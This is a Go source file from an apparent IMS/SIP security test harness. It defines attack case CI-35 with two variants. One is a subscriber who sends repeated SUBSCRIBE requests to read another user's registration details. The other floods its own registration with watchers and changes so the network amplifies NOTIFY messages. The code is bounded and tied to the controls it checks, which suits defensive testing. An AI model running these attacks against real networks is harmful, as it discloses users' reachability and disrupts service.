package attack

import (
	"context"
	"errors"
	"fmt"
	"time"

	"imsafe/proto/sip"
	"imsafe/secure"
)

// subscribeIntrude: a client watches the registration of somebody else, or makes the network tell without end of its own.
func subscribeIntrude() Attack {
	return Attack{
		ID: "ci.subscribe.intrude", Number: "CI-35", Title: "another user's registration, watched; and a storm of notifications",
		Text:     "when a telephone is on, where it is reached and what it can is its owner's; and each change, told to many, costs many times what it cost to make",
		Services: []Service{Confidentiality, Availability}, Stride: Disclosing, Threats: []Threat{Disclosure, Interruption}, Module: ApplicationsUser,
		Source: "CVE-2021-41157; RFC 3680 4.5, 4.10", Access: both(), Carried: []Access{UDP, TCP},
		Bounds: Bounds{Packets: 800, Bytes: 600_000, Conns: 3, Time: 4 * time.Second},
		Variants: []Variant{
			{Name: "watch", Position: Subscriber, Controls: []secure.ControlID{secure.CIAuthorizationSubscribe}, Run: watchAlice},
			{Name: "storm", Position: Subscriber, Access: []Access{TLS}, Controls: []secure.ControlID{secure.CIAvailabilityNotifyPacing}, Run: stormOfNotify},
		},
	}
}

// Subscribe writes a SUBSCRIBE to the registration of a user (RFC 3680).
func (h *Hand) Subscribe(impu string) string {
	return h.Text(Request{Method: "SUBSCRIBE", URI: impu, Lines: []string{"Event: reg", "Accept: application/reginfo+xml", "Expires: 600",
		"Contact: " + h.Contact()}})
}

func isNotify(m *sip.Message) bool { return m.IsRequest() && m.Method() == sip.NOTIFY }

func watchAlice(ctx context.Context, f *Field, o *Outcome) error {
	mallory, err := f.Mallory(ctx)
	if err != nil {
		return err
	}
	mallory.answers.Store(true)
	const times = 10
	seen := 0
	for i := range times {
		answer, err := mallory.Ask(ctx, mallory.Subscribe(f.Alice.IMPU))
		if err != nil {
			return err
		}
		o.Arrived("%d SUBSCRIBEs, the last answered %d", i+1, answer.Status())
		if answer.Status() != 200 {
			continue
		}
		m, err := mallory.Await(ctx, isNotify)
		if err != nil {
			return err
		}
		if contains(m.Body(), "<uri>") {
			seen++
		}
	}
	o.Users = min(seen, 1)
	o.Wire(seen > 0, "mallory reads where alice is reached in %d of %d documents", seen, times)
	return nil
}

// stormOfNotify asks a hundred times to watch mallory's own registration, and changes it again and again. A registration has room for a few watchers.
func stormOfNotify(ctx context.Context, f *Field, o *Outcome) error {
	mallory, err := f.Mallory(ctx)
	if err != nil {
		return err
	}
	mallory.answers.Store(true)
	const asked, changes = 100, 8
	watchers := 0
	for range asked {
		answer, err := mallory.Ask(ctx, mallory.Subscribe(mallory.IMPU))
		if err != nil {
			return err
		}
		if answer.Status() == 200 {
			watchers++
		} else if watchers == 0 {
			return fmt.Errorf("attack: SUBSCRIBE is answered %d", answer.Status())
		}
	}
	for range changes {
		if err := mallory.Register(ctx); err != nil {
			return err
		}
	}
	told := 0
	for {
		err := within(ctx, soon, func(ctx context.Context) error {
			_, err := mallory.Await(ctx, isNotify)
			return err
		})
		if errors.Is(err, ErrSilence) && ctx.Err() == nil {
			break
		}
		if err != nil {
			return err
		}
		told++
	}
	o.Arrived("%d SUBSCRIBEs, %d of them taken, and %d changes", asked, watchers, changes)
	o.Wire(told > 2*watchers, "%d notifications of %d changes to %d watchers", told, changes, watchers)
	return nil
}
